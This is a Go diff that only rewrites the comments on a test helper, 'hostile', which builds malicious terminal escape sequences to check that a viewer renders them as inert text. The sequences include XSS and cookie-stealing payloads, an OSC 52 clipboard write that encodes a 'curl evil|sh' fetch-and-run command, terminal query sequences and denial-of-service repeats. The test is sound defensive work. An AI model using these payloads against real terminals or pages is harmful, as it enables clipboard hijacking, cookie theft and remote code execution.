@@ -128,24 +128,35 @@ func flood(out io.Writer, kib string) error {
 }
 
 // hostile is what a malicious guest writes to the terminal of whoever looks: it
-// wants to answer for them, to reach their clipboard and their page. A page
-// that is safe shows nothing but the two words.
+// wants to answer for them, to reach their clipboard and their page. To a page
+// that is safe it is text and no more.
 func hostile() string {
 	const esc, bel, st = "\x1b", "\x07", "\x1b\\"
 	return strings.Join([]string{
 		"begin",
-		esc + "]0;<img src=x onerror=alert(1)>" + bel,                                   // the title
-		esc + "]52;c;Y3VybCBldmlsfHNo" + bel,                                            // the clipboard
-		esc + "]52;c;?" + bel,                                                           // the clipboard, read
-		esc + "]8;;javascript:alert(document.cookie)" + st + "link" + esc + "]8;;" + st, // a link
-		esc + "]4;0;?" + bel + esc + "]10;?" + bel,                                      // colours, asked for
-		esc + "[c" + esc + "[>c" + esc + "[5n" + esc + "[6n" + esc + "[21t",             // identity, position, title: asked for
-		esc + "P$q\"p" + st + esc + "P+q544e" + st,                                      // settings, asked for
-		esc + "[?1000h" + esc + "[?1003h" + esc + "[?2004h",                             // mouse reports, bracketed paste
-		esc + "[?1049h" + esc + "[?1049l",                                               // the other screen, and back
-		esc + "[8;1;1t" + esc + "[99999;99999H" + esc + "[1000000000b",                  // a size, a place, a repeat without end
+		// The title.
+		esc + "]0;<img src=x onerror=alert(1)>" + bel,
+		// The clipboard.
+		esc + "]52;c;Y3VybCBldmlsfHNo" + bel,
+		// The clipboard, read.
+		esc + "]52;c;?" + bel,
+		// A link.
+		esc + "]8;;javascript:alert(document.cookie)" + st + "link" + esc + "]8;;" + st,
+		// Colours, asked for.
+		esc + "]4;0;?" + bel + esc + "]10;?" + bel,
+		// Identity, position, title: asked for.
+		esc + "[c" + esc + "[>c" + esc + "[5n" + esc + "[6n" + esc + "[21t",
+		// Settings, asked for.
+		esc + "P$q\"p" + st + esc + "P+q544e" + st,
+		// Mouse reports, bracketed paste.
+		esc + "[?1000h" + esc + "[?1003h" + esc + "[?2004h",
+		// The other screen, and back.
+		esc + "[?1049h" + esc + "[?1049l",
+		// A size, a place, a repeat without end.
+		esc + "[8;1;1t" + esc + "[99999;99999H" + esc + "[1000000000b",
 		"<script>alert(1)</script>",
-		esc + "c", // all of it reset
+		// All of it reset.
+		esc + "c",
 		"end\r\n",
 	}, "")
 }
